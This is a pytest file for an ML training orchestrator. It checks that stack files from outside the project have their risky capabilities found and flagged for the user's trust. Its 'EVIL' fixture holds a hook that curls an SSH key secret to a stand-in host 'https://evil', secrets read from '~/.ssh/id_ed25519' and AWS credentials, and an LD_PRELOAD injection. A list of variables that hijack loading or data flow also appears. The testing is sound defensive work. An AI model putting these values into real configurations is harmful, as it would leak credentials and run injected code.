"""A stack file is code: what one from elsewhere can do is found, and only that is asked about."""

from pathlib import Path

import pytest
import yaml

from orchestrator.spec.load import load_recipe, load_stack
from orchestrator.spec.shipped import stack_names
from orchestrator.spec.stack import StackSpec
from orchestrator.stack.environment import DEBUG
from orchestrator.stack.powers import powers_of, to_be_trusted

BASE = load_stack("tiny-llama-lora").model_dump(mode="json", exclude_defaults=True)
EVIL = {
    "base_image": "registry.evil/torch:latest",
    "secrets": [
        {"name": "KEY", "file": "~/.ssh/id_ed25519"},
        {"name": "AWS_SECRET_ACCESS_KEY"},
        {"name": "HF_TOKEN"},
        {"name": "HOOK"},
    ],
    "env": {"LD_PRELOAD": "/sparkctl/run/x.so", "NCCL_DEBUG": "INFO"},
    "gang": {"hooks": [
        {"command": ["curl", "-d", "@/run/secrets/KEY", "https://evil"]},
        {"url": "https://evil/hook", "on": ["failed"]},
        {"url_secret": "HOOK"},
    ]},
}  # fmt: skip
EITHER = "when the run has succeeded or failed"
LINES = [
    "base image: everything runs in registry.evil/torch:latest",
    "secret KEY: reads the variable KEY of this computer, or its file ~/.ssh/id_ed25519",
    "secret AWS_SECRET_ACCESS_KEY: reads the variable AWS_SECRET_ACCESS_KEY of this computer",
    "secret HOOK: reads the variable HOOK of this computer",
    "env: sets LD_PRELOAD=/sparkctl/run/x.so",
    f"hook: runs `curl -d @/run/secrets/KEY https://evil` on rank 0 {EITHER}",
    "hook: posts the verdict to https://evil/hook when the run has failed",
    f"hook: posts the verdict to the address in the secret HOOK {EITHER}",
]


def recipe(tmp_path: Path, **more: object) -> str:
    """A file of somebody's own."""
    head = {"apiVersion": "sparkctl/v1", "kind": "Stack"}
    (tmp_path / "mine.yaml").write_text(yaml.safe_dump(head | BASE | more))
    return str(tmp_path / "mine.yaml")


def test_every_power_has_its_line(tmp_path: Path) -> None:
    given = load_recipe(recipe(tmp_path, **EVIL))
    assert [power.line for power in powers_of(given.stack)] == LINES
    assert [power.line for power in to_be_trusted(given)] == LINES


@pytest.mark.parametrize("name", stack_names())
def test_what_is_shipped_needs_no_question(name: str) -> None:
    assert to_be_trusted(load_recipe(name, ("base_image=mine",))) == ()


def test_a_recipe_that_only_trains_needs_none(tmp_path: Path) -> None:
    harmless = {"secrets": [{"name": "HF_TOKEN", "required": True}], "env": DEBUG}
    harmless["env"] = {k: v for k, v in DEBUG.items() if "FILE" not in k and "TORCH_FR" not in k}
    assert to_be_trusted(load_recipe(recipe(tmp_path, **harmless))) == ()


def test_what_the_command_line_says_needs_none(tmp_path: Path) -> None:
    file = recipe(tmp_path, **EVIL)
    settings = ("base_image=mine", "env={LD_PRELOAD: mine}", "gang.hooks=[]")
    left = to_be_trusted(load_recipe(file, settings))
    assert [power.line for power in left] == LINES[1:4]
    one = to_be_trusted(load_recipe(file, ("env.LD_PRELOAD=mine",)))
    assert [power.line for power in one] == LINES[:4] + LINES[5:]
    own = ("gang.hooks=[{url: https://mine}]", "secrets=[{name: MINE, file: ~/x}]")
    assert [p.line for p in to_be_trusted(load_recipe(file, own))] == [LINES[0], LINES[4]]


@pytest.mark.parametrize("name", [
    "LD_PRELOAD", "LD_LIBRARY_PATH", "PYTHONPATH", "PYTHONSTARTUP", "PATH", "BASH_ENV", "ENV",
    "HF_ENDPOINT", "HF_HOME", "HF_TOKEN_PATH", "HTTPS_PROXY", "https_proxy", "SSL_CERT_FILE",
    "REQUESTS_CA_BUNDLE", "MLFLOW_TRACKING_URI", "WANDB_BASE_URL",
    "NCCL_NET_PLUGIN", "NCCL_TUNER_PLUGIN", "NCCL_CONF_FILE", "NCCL_NET",
    "TORCH_LOGS_OUT", "CUDA_INJECTION64_PATH", "NCCL_TOPO_FILE", "UCX_MODULE_DIR", "GCONV_PATH",
    "NCCL_COMM_ID", "NCCL_DEBUG_FILE", "NCCL_PROFILER_PLUGIN",
])  # fmt: skip
def test_a_variable_that_changes_what_runs_or_where_data_goes_is_one(name: str) -> None:
    stack = StackSpec.model_validate(load_stack("tiny-llama-lora").model_dump() | {
        "env": {name: "x"},
    })  # fmt: skip
    assert [power.key for power in powers_of(stack)] == [("env", name)]
